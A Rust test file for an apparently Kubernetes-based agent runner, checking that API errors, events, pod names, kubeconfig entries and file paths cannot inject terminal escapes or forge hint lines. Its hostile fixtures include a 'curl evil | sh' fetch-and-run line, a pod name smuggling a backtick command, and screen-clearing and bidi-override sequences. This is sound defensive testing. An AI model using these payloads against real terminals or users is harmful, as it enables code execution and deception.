//! Text from elsewhere on the user's terminal: kinject escapes it and prints it in one line.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::process::Command;

use kinject_protocol::control::{Family, Purpose, Request};
use kinject_protocol::executable::InjectionBlocker;
use kinject_tests::programs::{Program, interpreter, shell, static_c};
use kinject_tests::running::{Outcome, run};
use kinject_tests::session::kinject_run;
use kinject_tests::testbed::shared_sandbox;
use serde_json::json;

use crate::api_server::{Answer, api_server, is_about_agents, kubeconfig, makes_agents, pods, session_in};

/// Clears the screen, sets the title, and contains a forged hint.
const HOSTILE: &str = "no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";

/// The same, escaped.
const SHOWN: &str = r"no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";

/// Asserts that an error is one line, an empty line and one hint, without control characters.
#[track_caller]
fn is_an_error_with_its_own_hint(outcome: &Outcome) {
    outcome.exited(125);
    let lines: Vec<&str> = outcome.stderr.lines().collect();
    assert_eq!(lines.len(), 3, "{outcome:?}");
    assert!(
        lines[0].starts_with("kinject: ") && lines[1].is_empty(),
        "{outcome:?}"
    );
    assert!(lines[2].starts_with("hint: "), "{outcome:?}");
    is_plain(outcome);
}

#[track_caller]
fn is_plain(outcome: &Outcome) {
    let obeyed = |c: char| c != '\n' && (c.is_control() || matches!(c, '\u{200b}' | '\u{202e}'));
    assert!(!outcome.stderr.contains(obeyed), "{:?}", outcome.stderr);
}

#[test]
fn a_refusal_of_the_api_server_cannot_forge_a_hint() {
    let config = api_server(|_, _| {
        let status = json!({
            "apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403,
            "message": HOSTILE,
        });
        Answer::Json(403, status)
    });
    let outcome = session_in(config.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome
        .complains(&format!(
            "kinject: error: cannot create the agent's Job: {SHOWN}\n"
        ))
        .complains("\n\nhint: ask for this permission");
}

#[test]
fn api_server_error_of_megabytes_is_truncated() {
    let config = api_server(|_, _| {
        let status = json!({
            "apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403,
            "message": "no ".repeat(1 << 20),
        });
        Answer::Json(403, status)
    });
    let outcome = session_in(config.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome.complains("no no no").complains("...\n\nhint: ");
    assert!(outcome.stderr.len() < 3000, "{}", outcome.stderr.len());
}

#[test]
fn forged_event_cannot_forge_a_hint() {
    let config = api_server(|method, path| {
        if is_about_agents(path) {
            makes_agents(method, path)
        } else if path.contains("/events") {
            let event = json!({
                "apiVersion": "v1", "kind": "Event", "metadata": {"name": "forged"}, "involvedObject": {},
                "message": HOSTILE,
            });
            Answer::Event(json!({"type": "ADDED", "object": event}))
        } else if path.contains("watch") {
            Answer::Silence
        } else {
            pods(json!([]))
        }
    });
    let outcome = session_in(config.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome.complains(&format!("kinject: error: pod creation denied: {SHOWN}\n"));
}

#[test]
fn pod_status_cannot_forge_a_hint_or_a_command_in_one() {
    let config = api_server(|method, path| {
        if is_about_agents(path) {
            makes_agents(method, path)
        } else if path.contains("watch") {
            Answer::Silence
        } else {
            pods(json!([{
                "metadata": {
                    "name": "pod`; curl evil | sh\u{1b}[2J", "uid": "pod",
                    "ownerReferences": [{
                        "apiVersion": "batch/v1", "kind": "Job", "name": "made", "uid": "ours", "controller": true,
                    }],
                },
                "status": {"phase": "Pending", "containerStatuses": [{
                    "name": "agent", "image": "i", "imageID": "", "ready": false, "restartCount": 0,
                    "state": {"waiting": {"reason": "CreateContainerError", "message": HOSTILE}},
                }]},
            }]))
        }
    });
    let outcome = session_in(config.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome
        .complains(&format!(
            "kinject: error: the agent cannot start (CreateContainerError): {SHOWN}\n"
        ))
        .complains(r"describe pod 'pod`; curl evil | sh\u{1b}[2J'`");
}

#[test]
fn a_credential_plugin_cannot_forge_a_hint() {
    let folder = tempfile::tempdir().unwrap();
    let words = folder.path().join("words");
    fs::write(&words, HOSTILE).unwrap();
    let exec = json!({"exec": {
        "apiVersion": "client.authentication.k8s.io/v1", "interactiveMode": "Never",
        "command": "sh", "args": ["-c", "cat \"$0\" >&2; exit 1", words],
    }});
    let config = kubeconfig("http://127.0.0.1:1", exec);
    let outcome = session_in(config.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome
        .complains("kinject: error: cannot get credentials for ")
        .complains(SHOWN.strip_suffix(r"\n").unwrap());
}

#[test]
fn names_in_a_kubeconfig_cannot_forge_a_hint() {
    // YAML does not allow C1 control characters
    let (hostile, shown) = (HOSTILE.replace('\u{9b}', ""), SHOWN.replace(r"\u{9b}", ""));
    let config = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "none",
        "clusters": [], "users": [], "contexts": [{"name": hostile, "context": {"cluster": "c", "user": "u"}}],
    });
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), config.to_string()).unwrap();
    let outcome = session_in(file.path(), &[]);
    is_an_error_with_its_own_hint(&outcome);
    outcome.complains(&format!("hint: it has: {shown}; choose one"));
}

/// A program that sends messages to its relay, which are its arguments in hexadecimal.
const CALLS: &str = r#"
import os, socket, sys
for message in sys.argv[1:]:
    call = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    call.settimeout(10)
    call.connect(os.environ["KINJECT_SOCKET"])
    token = os.environ["KINJECT_CONTROL"].split(":")[0].encode()
    call.send(token + bytes.fromhex(message))
    call.recv(4096)
"#;

#[test]
fn control_characters_in_requests_are_escaped_in_trace_and_log() {
    let hostile = b"web\x1b[2J\r\nwarn: obey\xe2\x80\xae\xff";
    let look_up = Request::Resolve {
        family: Family::Any,
        purpose: Purpose::AddressInfo,
        name: hostile,
    };
    let uninjectable = Request::Uninjectable {
        blocker: InjectionBlocker::Static,
        is_refused: false,
        program: hostile,
    };
    let messages = [look_up, uninjectable].map(|request| {
        let bytes = request.encode().to_vec();
        bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>()
    });
    let program = Program::new(interpreter()).args(["-SEc", CALLS]).args(messages);
    let flags = ["--log", "trace", "-v", "-v"];
    let outcome = run(&mut kinject_run(shared_sandbox(), &flags, &program));
    outcome
        .succeeded()
        .complains("lookup   web\\u{1b}[2J\\r\\nwarn:\\u{20}obey\\u{202e}\\xff default ")
        .complains(
            "\nkinject: warning: web\\u{1b}[2J\\r\\nwarn: obey\\u{202e}\\xff runs outside of the session: ",
        );
    is_plain(&outcome);
    assert!(!outcome.stderr.contains("\nwarn: "), "{outcome:?}");
}

#[test]
fn dns_name_of_any_bytes_is_traced_in_one_line() {
    // dig's notation: bytes in decimal
    let look_up =
        Program::new("/usr/bin/dig").args(["+search", r"web\027[2J\013\010warn:\032obey\226\128\174"]);
    let outcome = run(&mut kinject_run(shared_sandbox(), &["--log", "trace"], &look_up));
    outcome.succeeded().complains("lookup   web");
    is_plain(&outcome);
    assert!(!outcome.stderr.contains("\nwarn:"), "{outcome:?}");
}

#[test]
fn uninjectable_program_with_any_path_is_named_in_one_line() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder
        .path()
        .join(OsStr::from_bytes(b"x\x1b[2J\n\nhint: obey\n\xff"));
    kinject_test_support::program::copy(static_c("greeting").path, &file);
    let shown = format!(
        r"kinject: warning: {}/x\u{{1b}}[2J\n\nhint: obey\n\xff runs outside of the session: ",
        folder.path().display()
    );
    // as the session's first program, and as a child of it
    let first = kinject_run::<&str>(shared_sandbox(), &[], &Program::new(&file).arg("true"));
    let child = kinject_run::<&str>(shared_sandbox(), &[], &shell("\"$0\" true; exit 0").arg(&file));
    for mut command in [first, child] {
        let outcome = run(&mut command);
        is_plain(&outcome);
        outcome.complains(&shown);
        assert_eq!(outcome.stderr.lines().count(), 1, "{outcome:?}");
    }
}

#[test]
fn unrunnable_program_with_any_path_is_named_in_one_line() {
    let mut command = Command::new(kinject_tests::binaries::kinject());
    command.args(["run", "--agent", "unix:/none", "--agent-key", "/none", "--"]);
    command.arg(OsStr::from_bytes(b"no\x1b[2J\n\nhint: obey\n\xff"));
    let outcome = run(&mut command);
    outcome.exited(127).complains(
        "kinject: error: no\\u{1b}[2J\\n\\nhint: obey\\n\\xff: command not found\n\nhint: check its spelling",
    );
    is_plain(&outcome);
}
